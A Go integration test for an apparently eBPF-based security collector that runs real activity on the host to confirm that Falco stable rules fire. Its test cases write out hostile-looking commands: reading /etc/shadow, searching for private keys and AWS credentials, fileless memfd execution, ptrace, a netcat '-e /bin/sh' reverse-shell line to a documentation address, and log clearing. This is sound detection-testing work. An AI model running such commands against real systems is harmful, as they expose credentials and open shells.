//go:build integration && lannerbpf

package state_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"net"
	"os"
	"os/exec"
	"strconv"
	"sync"
	"testing"
	"time"

	"github.com/lannersec/lanner/collector/capture"
	"github.com/lannersec/lanner/collector/engine"
	"github.com/lannersec/lanner/collector/event"
	"github.com/lannersec/lanner/collector/state"
)

// stableRules is the upstream rules file lanner must load unmodified (outside this repository on
// the development machines; LANNER_FALCO_RULES overrides).
func stableRules(t *testing.T) []byte {
	t.Helper()
	path := os.Getenv("LANNER_FALCO_RULES")
	if path == "" {
		path = "../../../shared/compat/falco_rules.yaml"
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Skipf("upstream stable rules not found (%v): set LANNER_FALCO_RULES", err)
	}
	return b
}

type hit struct {
	rule, proc, cmdline string
}

// TestStableRulesOnLiveEvents drives real activity through capture, state and the rule engine
// with Falco's stable rules, and checks which rules fire: the events must carry what the
// upstream conditions read (names, args, flags, fds, ancestry).
func TestStableRulesOnLiveEvents(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to load eBPF")
	}
	for _, tool := range []string{"python3", "/usr/bin/python3", "script", "mount", "find", "ln", "setpriv"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("the live rule cases need %s: %v", tool, err)
		}
	}
	rs, res := engine.Load([]engine.File{{Name: "falco_rules.yaml", Data: stableRules(t)}}, engine.Options{})
	if rs == nil {
		t.Fatalf("load rules: %v", res.Errors)
	}
	var types []uint16
	all := false
	for _, r := range rs.Rules() {
		types = append(types, r.EventTypes...)
		all = all || r.AllTypes
	}
	// the kernel drops the opens no rule can match, as `lanner run` has it do
	var of *capture.OpenFilter
	if s := rs.OpenScope(); !s.Any {
		of = &capture.OpenFilter{Writes: s.Writes, Paths: s.Odd, Prefixes: s.Prefixes}
	}
	probe, err := capture.Open(capture.Config{Syscalls: capture.InterestingSyscalls(types, false), OpenFilter: of})
	if err != nil {
		t.Fatal(err)
	}
	defer probe.Close()
	st, err := state.New(state.Config{BootTime: probe.BootTime()})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.Scan(); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var hits []hit
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		var rec capture.Record
		_ = probe.Run(ctx, func(raw []byte) {
			if capture.DecodeInto(&rec, raw) != nil {
				return
			}
			ev := st.Process(&rec)
			if ev == nil {
				return
			}
			rs.Process(ev, func(r *engine.Rule, e *event.Event) {
				h := hit{rule: r.Name}
				if th := e.Sys.Thread; th != nil {
					h.proc, h.cmdline = th.Name, th.CmdLine()
				}
				mu.Lock()
				hits = append(hits, h)
				mu.Unlock()
			})
		})
	}()
	defer func() { cancel(); <-done }()

	dir := t.TempDir()
	sh := func(script string) {
		t.Helper()
		cmd := exec.Command("/bin/bash", "-c", script)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Logf("%s: %v: %s", script, err, out)
		}
	}
	py := func(code string) { sh("python3 -c '" + code + "'") }

	// A container-style cgroup (cgroup v2, docker layout) the container cases move into.
	cgRoot := "/sys/fs/cgroup/unified"
	if _, err := os.Stat(cgRoot + "/cgroup.procs"); err != nil {
		cgRoot = "/sys/fs/cgroup"
	}
	idb := make([]byte, 32)
	_, _ = rand.Read(idb)
	cg := cgRoot + "/docker/" + hex.EncodeToString(idb)
	if err := os.MkdirAll(cg, 0o755); err != nil {
		t.Fatalf("create a container cgroup: %v", err)
	}
	defer func() { _ = os.Remove(cg); _ = os.Remove(cgRoot + "/docker") }()
	inContainer := func(script string) { sh("echo $$ > " + cg + "/cgroup.procs && " + script) }
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			defer c.Close()
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)

	cases := []struct {
		rule string
		proc string
		act  func()
	}{
		{"Read sensitive file untrusted", "lanner-reader", func() {
			sh("cp /bin/cat ./lanner-reader && ./lanner-reader /etc/shadow >/dev/null")
		}},
		{"Create Symlink Over Sensitive Files", "ln", func() { sh("ln -s /etc/shadow ./shadow-link") }},
		{"Create Hardlink Over Sensitive Files", "ln", func() {
			sh("ln /etc/shadow /etc/.lanner-hardlink-test; rm -f /etc/.lanner-hardlink-test")
		}},
		{"Search Private Keys or Passwords", "find", func() { sh("find " + dir + " -name id_rsa") }},
		{"Find AWS Credentials", "find", func() { sh("find " + dir + "/.aws/credentials 2>/dev/null; true") }},
		{"Execution from /dev/shm", "lanner-shm", func() {
			sh("cp /bin/true /dev/shm/lanner-shm && /dev/shm/lanner-shm; rm -f /dev/shm/lanner-shm")
		}},
		{"Fileless execution via memfd_create", "", func() {
			py(`import os; fd=os.memfd_create("lanner"); os.write(fd, open("/bin/true","rb").read()); os.execv("/proc/self/fd/%d" % fd, ["lanner-memfd"])`)
		}},
		{"PTRACE anti-debug attempt", "python3", func() {
			py(`import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)`)
		}},
		{"PTRACE attached to process", "python3", func() {
			py(`import ctypes, subprocess, time; p=subprocess.Popen(["sleep","5"]); time.sleep(0.1); ctypes.CDLL(None).ptrace(16, p.pid, 0, 0); p.kill()`)
		}},
		{"Packet socket created in container", "python3", func() {
			inContainer(`python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"`)
		}},
		{"Linux Kernel Module Injection Detected", "python3", func() {
			inContainer(`python3 -c "import ctypes; ctypes.CDLL(None).syscall(313, -1, b\"\", 0)"`)
		}},
		{"Redirect STDOUT/STDIN to Network Connection in Container", "python3", func() {
			inContainer(`python3 -c "import socket, os; s=socket.create_connection((\"127.0.0.1\", ` + port + `)); os.dup2(s.fileno(), 0)"`)
		}},
		{"Netcat Remote Code Execution in Container", "nc", func() {
			inContainer("cp /bin/true ./nc && ./nc -e /bin/sh 192.0.2.1 4444")
		}},
		{"Drop and execute new binary in container", "dropped-true", func() {
			// an overlay mount stands for the container's root: a binary written through it
			// lands in the upper layer
			inContainer("mkdir -p lo up wk mnt && cp /bin/true lo/ && mount -t overlay overlay -o lowerdir=lo,upperdir=up,workdir=wk mnt && " +
				"cp /bin/true mnt/dropped-true && ./mnt/true && ./mnt/dropped-true; umount mnt")
		}},
		{"Directory traversal monitored file read", "python3", func() {
			py(`open("../../../../../../../../etc/passwd").read()`)
		}},
		{"Remove Bulk Data from Disk", "shred", func() { sh("cp /bin/true ./shred && ./shred x") }},
		{"Run shell untrusted", "sh", func() {
			// a web server that spawns a shell
			sh(`cp /bin/bash ./nginx && ./nginx -c "/bin/sh -c true; true"`)
		}},
		{"Terminal shell in container", "sh", func() {
			// an interactive shell (a pty from script) whose parent is the container runtime
			sh(`cp /bin/bash ./runc && script -qec "./runc -c 'echo \$\$ > ` + cg + `/cgroup.procs && /bin/sh -c true; true'" /dev/null`)
		}},
		{"Detect release_agent File Container Escapes", "touch", func() { inContainer("touch ./release_agent") }},
		{"Read sensitive file trusted after startup", "nginx", func() {
			// a server that has run for more than 5 s reads a sensitive file
			sh(`mkdir -p srv && cp /bin/bash srv/nginx && srv/nginx -c "sleep 5.2; exec 3</etc/shadow; true"`)
		}},
		{"Disallowed SSH Connection Non Standard Port", "python3", func() {
			// an "ssh" (argv[0]; the system interpreter, not a wrapper script that would reset
			// argv[0]) connecting out to port 4444 of a documentation address; non-blocking, so
			// the call returns EINPROGRESS at once
			sh(`exec -a ssh /usr/bin/python3 -c "import socket; s=socket.socket(); s.setblocking(False); s.connect_ex((\"198.51.100.7\", 4444))"`)
		}},
		{"System user interactive", "true", func() {
			// a login (an "sshd" ancestor) that runs a command as the system user nobody
			sh(`mkdir -p sbin && cp /bin/bash sbin/sshd && sbin/sshd -c "setpriv --reuid=nobody --regid=nogroup --clear-groups /bin/true; true"`)
		}},
		{"Clear Log Activities", "python3", func() {
			py(`open("/var/log/lanner-test.log","w").close()`)
			_ = os.Remove("/var/log/lanner-test.log")
		}},
	}
	for _, c := range cases {
		c.act()
	}
	time.Sleep(300 * time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	fired := map[string][]hit{}
	for _, h := range hits {
		fired[h.rule] = append(fired[h.rule], h)
	}
	for _, c := range cases {
		hs := fired[c.rule]
		ok := false
		for _, h := range hs {
			if c.proc == "" || h.proc == c.proc {
				ok = true
			}
		}
		if !ok {
			t.Errorf("rule %q did not fire for %s (hits: %v)", c.rule, c.proc, hs)
		} else {
			t.Logf("rule %q fired: %v", c.rule, hs[0])
		}
	}
	// The image's own binary (lower layer) is not a dropped one.
	for _, h := range fired["Drop and execute new binary in container"] {
		if h.proc == "true" {
			t.Errorf("lower-layer binary taken for a dropped one: %v", h)
		}
	}
	// Everything else here is benign (bash, cp, rm, python3 on the host): nothing else may fire.
	expected := map[string]bool{}
	for _, c := range cases {
		expected[c.rule] = true
	}
	for r, hs := range fired {
		if !expected[r] {
			t.Errorf("unexpected rule %q fired %d times, e.g. %v", r, len(hs), hs[0])
		}
	}
	t.Logf("%d stable rules fired from real activity", len(fired))
}
